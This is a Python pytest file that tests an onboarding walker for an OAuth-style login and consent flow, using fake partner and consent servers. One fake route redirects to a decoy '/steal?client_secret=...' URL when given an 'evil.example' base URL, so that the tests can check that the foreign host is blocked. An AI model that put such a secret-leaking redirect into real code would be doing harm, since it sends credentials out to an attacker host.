"""The onboarding walker against a small fake partner app and a fake SB consent page."""

from __future__ import annotations

import secrets
import socket
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Literal
from urllib.parse import urlencode, urlsplit

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse, PlainTextResponse, RedirectResponse, Response
from starlette.routing import Route

from sbready.config import AppTokenConfig, AppTokenForm, LoginStep
from sbready.driver.apptoken import hand_over_app_token
from sbready.driver.onboarding import OnboardingWalker, parse_page
from sbready.sandbox.server import ServedApp, serve
from sbready.secrets import REDACTED, Redactor

PASSWORD = "walker-test-password"
CLIENT_SECRET = "client-secret-never-shown"
LOGIN = LoginStep(url_contains="/login", fields={"username": "demo@partner.example",
                                                 "password": PASSWORD})


@dataclass
class Seen:
    """What each fake server received."""

    # method, url, cookies
    requests: list[tuple[str, str, dict[str, str]]] = field(default_factory=list)
    states: list[str] = field(default_factory=list)
    callbacks: list[dict[str, str]] = field(default_factory=list)
    tokens: list[str] = field(default_factory=list)

    def note(self, request: Request) -> None:
        self.requests.append((request.method, str(request.url), dict(request.cookies)))


def page(title: str, body: str, status: int = 200) -> HTMLResponse:
    return HTMLResponse(f"<html><head><title>{title}</title></head><body>{body}</body></html>",
                        status_code=status)


def partner_app(seen: Seen, decoy_url: str) -> Starlette:
    """A partner app: landing -> login -> authorize at afasBaseUrl -> callback -> confirmation."""

    async def landing(request: Request) -> Response:
        seen.note(request)
        base = request.query_params.get("afasBaseUrl")
        if not base:
            return page("Missing afasBaseUrl", "<p>afasBaseUrl is missing.</p>", 400)
        if request.cookies.get("session") != "ok":
            return RedirectResponse("/login?" + urlencode({"next": str(request.url)}), 302)
        if base.startswith("http://evil"):
            return RedirectResponse(decoy_url + "/steal?client_secret=" + CLIENT_SECRET, 302)
        state = secrets.token_urlsafe(16)
        seen.states.append(state)
        callback_url = f"{request.base_url}Appcenter/AFASSB/callback"
        query = urlencode({"client_id": "demo", "redirect_uri": callback_url,
                           "response_type": "code", "code_challenge": "c" * 43,
                           "code_challenge_method": "S256", "state": state})
        return RedirectResponse(f"{base}/app/auth?{query}", 302)

    async def login(request: Request) -> Response:
        seen.note(request)
        if request.method == "POST":
            form = await request.form()
            if form.get("password") == PASSWORD and form.get("go") == "Log in":
                response = RedirectResponse(str(form.get("next")), 303)
                response.set_cookie("session", "ok", httponly=True)
                return response
        nxt = request.query_params.get("next", "/")
        return page("Log in", f"""<form method="post" action="/login">
            <input type="hidden" name="next" value="{nxt}">
            <input name="username"><input type="password" name="password">
            <input type="checkbox" name="remember" value="yes" checked>
            <button type="submit" name="go" value="Log in">Log in</button></form>""")

    async def callback(request: Request) -> Response:
        seen.note(request)
        seen.callbacks.append(dict(request.query_params))
        if request.query_params.get("error") == "access_denied":
            return page("Declined", "<p>You declined the connection.</p>")
        if request.query_params.get("state") not in seen.states:
            return page("Error", "<p>state mismatch</p>", 400)
        return page("Connected", f"<p>Connected. {request.query_params.get('code')}</p>")

    async def apptoken(request: Request) -> Response:
        seen.note(request)
        if request.cookies.get("session") != "ok":
            return RedirectResponse("/login?" + urlencode({"next": str(request.url)}), 302)
        if request.method == "POST":
            form = await request.form()
            seen.tokens.append(str(form.get("token")))
            return page("Activated", f"<p>Token stored for {form.get('base_url')}</p>")
        return page("App token", """<form method="post"><input name="token">
            <input name="base_url"><input type="submit" value="Save"></form>""")

    async def entry(request: Request) -> Response:
        """Landing pages that offer login without redirecting: an inline form, or a link."""
        seen.note(request)
        back = "/Appcenter/AFASSB/?" + urlencode(
            {"afasBaseUrl": request.query_params["afasBaseUrl"]})
        if request.path_params["kind"] == "link":
            return page("Welcome", f'<a href="/signup">Sign up</a> '
                        f'<a href="/login?{urlencode({"next": back})}">Log in</a>')
        return page("Welcome", f"""<form method="post" action="/login">
            <input type="hidden" name="next" value="{back}"><input name="username">
            <input type="password" name="password">
            <button type="submit" name="go" value="Log in">Log in</button></form>""")

    async def loop(request: Request) -> Response:
        return RedirectResponse("/loop", 302)

    async def leaky(request: Request) -> Response:
        return page("Debug", f"<p>secret: {CLIENT_SECRET}</p>")

    async def health(request: Request) -> Response:
        return PlainTextResponse("ok")

    return Starlette(routes=[
        Route("/Appcenter/AFASSB/", landing),
        Route("/Appcenter/AFASSB/callback", callback),
        Route("/Appcenter/AFASSB/apptoken", apptoken, methods=["GET", "POST"]),
        Route("/login", login, methods=["GET", "POST"]),
        Route("/loop", loop),
        Route("/entry/{kind}", entry),
        Route("/leaky", leaky),
        Route("/health", health),
    ])


def fake_sandbox(seen: Seen) -> Starlette:
    """SB's consent page: GET /{env}/app/auth shows it, the form POSTs the decision."""

    async def authorize(request: Request) -> Response:
        seen.note(request)
        q = request.query_params
        action = f"/{request.path_params['env']}/app/auth/decide"
        return page("Toestemming", f"""<form method="post" action="{action}">
            <input type="hidden" name="redirect_uri" value="{q['redirect_uri']}">
            <input type="hidden" name="state" value="{q.get('state', '')}">
            <button name="decision" value="allow">Allow</button>
            <button name="decision" value="deny">Deny</button></form>""")

    async def decide(request: Request) -> Response:
        seen.note(request)
        form = await request.form()
        params = {"code": "the-auth-code-123"} if form["decision"] == "allow" else {
            "error": "access_denied"}
        params["state"] = str(form["state"])
        return RedirectResponse(f"{form['redirect_uri']}?{urlencode(params)}", 302)

    return Starlette(routes=[Route("/{env}/app/auth", authorize),
                             Route("/{env}/app/auth/decide", decide, methods=["POST"])])


@dataclass
class World:
    app: ServedApp
    sandbox: ServedApp
    decoy: ServedApp
    app_seen: Seen
    sandbox_seen: Seen
    decoy_seen: Seen
    redactor: Redactor

    @property
    def onboarding_url(self) -> str:
        return f"{self.app.base_url}/Appcenter/AFASSB/"

    @property
    def afas_base_url(self) -> str:
        return f"{self.sandbox.base_url}/demo"

    def walker(
        self, *, steps: tuple[LoginStep, ...] = (LOGIN,), **kwargs: object
    ) -> OnboardingWalker:
        options: dict = {"ca_file": None, "timeout": 5.0, "redactor": self.redactor}
        options.update(kwargs)
        return OnboardingWalker(
            allowed_hosts={urlsplit(u).netloc for u in (self.app.base_url, self.sandbox.base_url)},
            login_steps=steps,
            **options,
        )


@pytest.fixture(scope="module")
def world() -> Iterator[World]:
    decoy_seen, app_seen, sandbox_seen = Seen(), Seen(), Seen()

    async def record(request: Request) -> Response:
        decoy_seen.note(request)
        return PlainTextResponse("got it")

    decoy = serve(Starlette(routes=[Route("/{path:path}", record)]))
    app = serve(partner_app(app_seen, decoy.base_url))
    sandbox = serve(fake_sandbox(sandbox_seen))
    try:
        yield World(app, sandbox, decoy, app_seen, sandbox_seen, decoy_seen,
                    Redactor([PASSWORD, CLIENT_SECRET]))
    finally:
        for served in (app, sandbox, decoy):
            served.stop()


def test_full_flow_logs_in_consents_and_lands_on_confirmation(world: World) -> None:
    before = len(world.sandbox_seen.requests)
    result = world.walker().walk(world.onboarding_url, world.afas_base_url)
    assert result.error is None and result.blocked_host is None
    assert result.final is not None and result.final.status == 200
    assert result.final.title == "Connected"
    assert result.login_submitted == ["/login"] and result.consent_submitted
    assert result.reached_authorize and result.authorize_url is not None
    assert result.authorize_url.startswith(world.afas_base_url + "/app/auth?client_id=demo")
    assert "code_challenge_method=S256" in result.authorize_url
    assert result.callback_url is not None and f"code={REDACTED}" in result.callback_url
    assert "the-auth-code-123" not in repr(result)  # the code is evidence only as [redacted]
    assert all(hop.exposed == () for hop in result.hops)  # a code on its way is no exposure
    assert PASSWORD not in repr(result)
    login_post = next(h for h in result.hops if h.method == "POST" and "/login" in h.url)
    assert set(login_post.submitted) == {"next", "username", "password", "remember", "go"}
    assert [h.status for h in result.hops] == [302, 200, 303, 302, 200, 302, 200]
    assert world.app_seen.callbacks[-1]["state"] == world.app_seen.states[-1]
    # Cookies are kept per host:port: the app's session cookie never reaches the sandbox.
    assert all("session" not in cookies for _, _, cookies in world.sandbox_seen.requests[before:])
    assert result.duration_s > 0 and all(h.duration_ms >= 0 for h in result.hops)


@pytest.mark.parametrize("kind", ["inline", "link"])
def test_login_offered_on_the_landing_page(world: World, kind: str) -> None:
    result = world.walker().walk(f"{world.app.base_url}/entry/{kind}", world.afas_base_url)
    assert result.error is None
    assert result.final is not None and result.final.title == "Connected"
    assert result.login_submitted == ["/login"]
    if kind == "link":
        assert result.hops[1].method == "GET" and "/login?next=" in result.hops[1].url
    else:
        assert result.hops[1].method == "POST" and "password" in result.hops[1].submitted


def test_deny_reaches_the_declined_page(world: World) -> None:
    result = world.walker().walk(world.onboarding_url, world.afas_base_url, consent="deny")
    assert result.final is not None and result.final.title == "Declined"
    assert result.callback_url is not None and "error=access_denied" in result.callback_url
    assert world.app_seen.callbacks[-1].get("error") == "access_denied"


@pytest.mark.parametrize("tamper", ["wrong", "missing"])
def test_callback_state_is_tampered_on_request(
    world: World, tamper: Literal["wrong", "missing"]
) -> None:
    result = world.walker().walk(world.onboarding_url, world.afas_base_url, callback_state=tamper)
    received = world.app_seen.callbacks[-1]
    if tamper == "missing":
        assert "state" not in received
    else:
        assert received["state"] != world.app_seen.states[-1] and len(received["state"]) >= 40
    assert result.final is not None and result.final.status == 400


def test_stop_before_callback_never_calls_the_app(world: World) -> None:
    callbacks = len(world.app_seen.callbacks)
    result = world.walker().walk(world.onboarding_url, world.afas_base_url,
                                 stop_before_callback=True)
    assert result.callback_url is not None and "state=" in result.callback_url
    assert len(world.app_seen.callbacks) == callbacks
    assert result.final is not None and result.final.status == 302


def test_foreign_host_is_recorded_and_never_requested(world: World) -> None:
    result = world.walker().walk(world.onboarding_url, "http://evil.example/demo")
    assert result.blocked_host == urlsplit(world.decoy.base_url).netloc
    assert result.blocked_url is not None and CLIENT_SECRET not in result.blocked_url
    assert world.decoy_seen.requests == []
    assert not result.reached_authorize
    landing = result.hops[-1]
    assert "location: a harness secret" in landing.exposed
    assert "location: client_secret" in landing.exposed


def test_missing_afas_base_url_and_raw_query(world: World) -> None:
    result = world.walker().walk(world.onboarding_url, None)
    assert result.final is not None and result.final.status == 400
    assert "afasBaseUrl is missing" in result.final.excerpt
    raw = world.walker().walk(world.onboarding_url, None, raw_query="afasBaseUrl=")
    assert raw.hops[0].url.endswith("?afasBaseUrl=")


def test_without_login_steps_the_walk_stops_on_the_login_page(world: World) -> None:
    result = world.walker(steps=()).walk(world.onboarding_url, world.afas_base_url)
    assert result.final is not None and result.final.title == "Log in"
    assert set(result.final.form_fields) >= {"username", "password", "go"}
    assert result.error is None and not result.reached_authorize


def test_wrong_password_is_reported_not_retried(world: World) -> None:
    wrong = LoginStep(url_contains="/login", fields={"username": "x", "password": "nope-nope"})
    result = world.walker(steps=(wrong,)).walk(world.onboarding_url, world.afas_base_url)
    assert result.error is not None and "came back after it was submitted" in result.error
    assert len(result.hops) == 3


def test_redirect_loop_stops_at_max_hops(world: World) -> None:
    result = world.walker(max_hops=5).walk(f"{world.app.base_url}/loop", None)
    assert len(result.hops) == 5 and result.error is not None and "5 requests" in result.error


def test_secret_in_a_page_is_redacted_and_flagged(world: World) -> None:
    result = world.walker().walk(f"{world.app.base_url}/leaky", None)
    hop = result.hops[0]
    assert CLIENT_SECRET not in hop.body and REDACTED in hop.excerpt
    assert hop.exposed == ("body: a harness secret",)


def test_hanging_server_is_a_recorded_timeout(world: World) -> None:
    with socket.socket() as silent:  # listens, never answers
        silent.bind(("127.0.0.1", 0))
        silent.listen()
        host = f"127.0.0.1:{silent.getsockname()[1]}"
        walker = OnboardingWalker(allowed_hosts={host}, login_steps=(), ca_file=None,
                                  timeout=0.5, redactor=Redactor())
        started = time.monotonic()
        result = walker.walk(f"http://{host}/Appcenter/AFASSB/", "http://127.0.0.1:1/demo")
    assert time.monotonic() - started < 3.0
    assert result.error is not None and "did not answer within 0.5 s" in result.error
    assert result.final is not None and result.final.status == 0


def test_app_token_form_hand_off_logs_in_and_submits(world: World) -> None:
    token = "app-token-abcdef-123456"
    cfg = AppTokenConfig(form=AppTokenForm(
        url=f"{world.app.base_url}/Appcenter/AFASSB/apptoken",
        fields={"token": token, "base_url": world.afas_base_url},
    ))
    redactor = Redactor()
    walker = world.walker()
    walker.redactor = redactor
    result = hand_over_app_token(cfg, app_token=token, afas_base_url=world.afas_base_url,
                                 env=None, cwd=Path("."), redactor=redactor,
                                 walker=walker)
    assert result.ok, result.detail
    assert world.app_seen.tokens[-1] == token
    assert result.walk is not None and token not in repr(result.walk)


def test_parse_page_reads_forms_and_title() -> None:
    title, forms = parse_page("""<title> Consent
        page </title><form action="/x" method="POST"><input type="hidden" name="a" value="1">
        <select name="s"><option value="p">P</option><option value="q" selected>Q</option></select>
        <textarea name="t">hello</textarea><input type="radio" name="r" value="no">
        <input type="submit" name="decision" value="allow"></form><form></form>""")
    assert title == "Consent page"
    assert forms[0].method == "POST" and forms[0].action == "/x"
    assert forms[0].fields == [("a", "1"), ("s", "q"), ("t", "hello")]
    assert forms[0].buttons == [("decision", "allow")]
    assert forms[1].method == "GET"
